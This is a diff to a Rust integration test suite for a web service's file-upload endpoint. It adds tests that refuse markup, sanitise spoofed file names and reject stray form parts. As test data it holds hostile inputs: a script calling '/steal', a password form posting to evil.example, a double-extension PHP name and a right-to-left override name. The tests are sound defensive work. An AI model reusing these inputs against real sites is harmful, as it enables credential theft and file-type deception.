@@ -51,7 +51,7 @@ async fn batch(app: &TestApp, token: &str) -> String {
 
 async fn upload(app: &TestApp, token: &str, batch: &str, filename: &str, mime: &str, bytes: Vec<u8>) -> (u16, Value) {
     let part = Part::bytes(bytes).file_name(filename.to_owned()).mime_str(mime).unwrap();
-    let form = Form::new().text("note", "ignored").part("file", part);
+    let form = Form::new().part("file", part);
     let response = app
         .http
         .post(app.url(&format!("/v1/batches/{batch}/attachments")))
@@ -164,7 +164,7 @@ async fn hostile_uploads_are_refused_or_defused() {
     assert_eq!(status, 201, "{attachment}");
     assert_eq!(
         (attachment["content_type"].as_str(), attachment["filename"].as_str()),
-        (Some("image/jpeg"), Some("a.jpg.php"))
+        (Some("image/jpeg"), Some("a.jpg.php.jpg"))
     );
     // HTTP forbids NUL in a header, so a NUL in the part's filename makes the
     // multipart body itself malformed: refused whole, nothing stored.
@@ -181,6 +181,92 @@ async fn hostile_uploads_are_refused_or_defused() {
     assert_eq!(attachment_rows(&app), 2);
     let (status, _) = upload(&app, &member, &batch, "exact.png", "image/png", png(LIMIT)).await;
     assert_eq!(status, 201, "exactly the limit is allowed");
+}
+
+/// Markup anywhere in the sniffed bytes is refused, whatever comes first;
+/// a stored file's display name ends with its type's extension and has no
+/// invisible characters that would make it read as another name.
+#[tokio::test]
+async fn markup_is_refused_and_display_names_say_what_the_file_is() {
+    let app = spawn_with(&[]).await;
+    let member = token(&app, "acme", "member");
+    let batch = batch(&app, &member).await;
+    for page in [
+        "Dear customer, your invoice:\n<h1>Invoice</h1><script>fetch('/steal')</script>",
+        "figures for November\n\n<FORM action=https://evil.example><input name=password>",
+        "just text, then <iframe src=x>",
+    ] {
+        let (status, problem) = upload(&app, &member, &batch, "report.txt", "text/plain", page.into()).await;
+        assert_eq!((status, problem["code"].as_str()), (415, Some("unsupported_media_type")), "{page}");
+    }
+    assert_eq!(attachment_rows(&app), 0);
+    assert!(files_under(&media(&app)).is_empty(), "a refused upload stores nothing");
+
+    let named = async |filename: &str, bytes: &[u8]| {
+        let part = Part::bytes(bytes.to_vec()).file_name(filename.to_owned());
+        // Raw UTF-8 in `filename="..."`, as browsers send it.
+        let form = Form::new().percent_encode_noop().part("file", part);
+        let url = app.url(&format!("/v1/batches/{batch}/attachments"));
+        let response = app.http.post(url).bearer_auth(&member).multipart(form).send().await.unwrap();
+        assert_eq!(response.status(), 201, "{filename}");
+        let attachment: Value = response.json().await.unwrap();
+        attachment["filename"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(named("invoice.exe", b"%PDF-1.7\n").await, "invoice.exe.pdf");
+    assert_eq!(named("invoice\u{202e}fdp.js", b"hello").await, "invoicefdp.js.txt");
+    assert_eq!(named("\u{feff}scan\u{200b}.PNG", &png(64)).await, "scan.PNG");
+    assert_eq!(named("notes", b"a < b").await, "notes.txt");
+}
+
+/// The body holds the file and nothing else, as a JSON body holds no
+/// unknown field: any other part, before or after the file, is a 422
+/// naming it, and nothing is stored.
+#[tokio::test]
+async fn a_part_other_than_the_file_is_refused_and_nothing_is_kept() {
+    let app = spawn_with(&[]).await;
+    let member = token(&app, "acme", "member");
+    let batch = batch(&app, &member).await;
+    let file = || Part::bytes(png(10_000)).file_name("scan.png");
+    for (form, field) in [
+        (Form::new().text("note", "x").part("file", file()), "note"),
+        (Form::new().part("file", file()).text("note", "x"), "note"),
+        (Form::new().part("file", file()).part("file", file()), "file"),
+    ] {
+        let url = app.url(&format!("/v1/batches/{batch}/attachments"));
+        let response = app.http.post(url).bearer_auth(&member).multipart(form).send().await.unwrap();
+        let status = response.status().as_u16();
+        let problem: Value = response.json().await.unwrap();
+        assert_eq!((status, problem["errors"][0]["field"].as_str()), (422, Some(field)), "{problem}");
+    }
+    assert_eq!(attachment_rows(&app), 0);
+    assert!(files_under(&media(&app)).is_empty(), "nothing stored: {:?}", files_under(&media(&app)));
+}
+
+/// The object is stored, then recording it fails for real (a trigger
+/// refuses the update): the upload answers 500 and leaves neither the row
+/// nor the object behind.
+#[tokio::test]
+async fn an_upload_whose_row_update_fails_leaves_no_orphan_object() {
+    use diesel::prelude::*;
+    let app = spawn_with(&[]).await;
+    let member = token(&app, "acme", "member");
+    let batch = batch(&app, &member).await;
+    diesel::sql_query(
+        "CREATE FUNCTION refuse_update() RETURNS trigger LANGUAGE plpgsql AS $$ \
+         BEGIN RAISE EXCEPTION 'attachments are read-only in this test'; END $$",
+    )
+    .execute(&mut app.database.connect())
+    .unwrap();
+    diesel::sql_query(
+        "CREATE TRIGGER refuse_update BEFORE UPDATE ON attachments FOR EACH ROW EXECUTE FUNCTION refuse_update()",
+    )
+    .execute(&mut app.database.connect())
+    .unwrap();
+
+    let (status, problem) = upload(&app, &member, &batch, "scan.png", "image/png", png(20_000)).await;
+    assert_eq!((status, problem["code"].as_str()), (500, Some("internal_error")), "{problem}");
+    assert_eq!(attachment_rows(&app), 0, "the pending row is removed");
+    assert!(files_under(&media(&app)).is_empty(), "no orphan object: {:?}", files_under(&media(&app)));
 }
 
 #[tokio::test]
